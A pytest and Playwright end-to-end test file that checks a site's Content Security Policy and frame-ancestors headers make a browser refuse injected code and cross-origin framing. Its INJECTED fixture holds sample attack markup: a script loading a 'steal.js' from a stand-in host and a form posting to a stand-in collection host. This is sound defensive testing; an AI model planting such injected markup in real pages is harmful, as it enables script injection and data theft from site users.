"""What the site's security headers make a real browser refuse: code injected into a page
(inline script and style, another site's script, a form posting elsewhere), and framing."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Page, Route

pytestmark = pytest.mark.e2e

# What an attacker might get into a page, e.g. through an unescaped field.
INJECTED = """
<p id="injected" style="color: rgb(255, 0, 0)">injected</p>
<script>document.documentElement.dataset.injected = "ran";</script>
<script src="https://scripts.example.org/steal.js"></script>
<form id="away" method="post" action="https://collect.example.org/"><input name="x"></form>
"""


@pytest.fixture
def browser_page(browser: Browser) -> Iterator[tuple[Page, list[str]]]:
    """A page and the browser's console messages (the `page` fixture forbids refusals)."""
    context = browser.new_context()
    page = context.new_page()
    messages: list[str] = []
    page.on("console", lambda message: messages.append(message.text))
    yield page, messages
    context.close()


def refusals(messages: list[str]) -> str:
    return "\n".join(m for m in messages if "Content Security Policy" in m)


def test_code_injected_into_a_page_is_refused(browser_page, live_server: str, make_event):
    page, messages = browser_page
    event = make_event()
    own_scripts: list[str] = []
    page.on(
        "response",
        lambda r: own_scripts.append(r.url) if r.url.endswith(".js") and r.ok else None,
    )

    def inject(route: Route) -> None:
        # The site's real response, headers and all, with something injected in its body.
        response = route.fetch()
        body = response.text().replace("</body>", INJECTED + "</body>")
        route.fulfill(response=response, body=body)

    page.route(f"{live_server}/events/{event.slug}", inject)
    page.goto(f"{live_server}/events/{event.slug}")
    page.wait_for_load_state("load")

    assert page.evaluate("document.documentElement.dataset.injected") is None
    color = page.evaluate("getComputedStyle(document.getElementById('injected')).color")
    assert color != "rgb(255, 0, 0)"
    page.evaluate("document.getElementById('away').submit()")
    page.wait_for_timeout(300)
    assert page.url == f"{live_server}/events/{event.slug}"
    refused = refusals(messages)
    assert "inline script" in refused, refused
    assert "inline style" in refused, refused
    assert "https://scripts.example.org/steal.js" in refused, refused
    assert "https://collect.example.org/" in refused, refused
    # The site's own scripts and styles are still allowed: the page works.
    assert own_scripts, "no script of the site's own was loaded"
    assert page.evaluate("getComputedStyle(document.body).marginTop") != "8px"  # site.css


@pytest.fixture
def other_site() -> Iterator[Callable[[str], str]]:
    """Another site (another port: another origin) serving one page; yields a function
    that sets the page's HTML and returns its address."""
    html = {"body": ""}

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = html["body"].encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def serve(body: str) -> str:
        html["body"] = body
        return f"http://127.0.0.1:{server.server_port}/"

    yield serve
    server.shutdown()
    server.server_close()


def test_no_other_site_can_frame_the_site(browser_page, live_server: str, other_site) -> None:
    page, messages = browser_page
    page.goto(other_site(f'<iframe src="{live_server}/login"></iframe>'))
    page.wait_for_load_state("load")
    (framed,) = page.main_frame.child_frames
    assert not framed.url.startswith(live_server)  # the browser shows its error page instead
    assert "frame-ancestors 'none'" in refusals(messages), messages
